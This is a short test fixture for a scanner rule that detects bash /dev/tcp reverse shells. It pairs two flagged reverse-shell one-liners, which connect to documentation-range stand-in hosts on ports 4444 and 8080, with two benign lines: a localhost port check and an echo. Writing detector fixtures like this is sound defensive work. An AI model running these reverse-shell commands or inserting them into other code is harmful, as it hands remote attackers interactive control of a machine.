# Fixture for sh.reverse-shell-dev-tcp (written for provscan; not from any project).
# ruleid: sh.reverse-shell-dev-tcp
bash -i >& /dev/tcp/198.51.100.4/4444 0>&1
# ruleid: sh.reverse-shell-dev-tcp
exec 5<>/dev/tcp/203.0.113.9/8080; cat <&5 | while read l; do $l 2>&5 >&5; done
# ok: sh.reverse-shell-dev-tcp
# health check: is the port open?
if timeout 1 bash -c '</dev/tcp/localhost/5432'; then echo up; fi
# ok: sh.reverse-shell-dev-tcp
echo "see /dev/tcp docs in bash(1)"
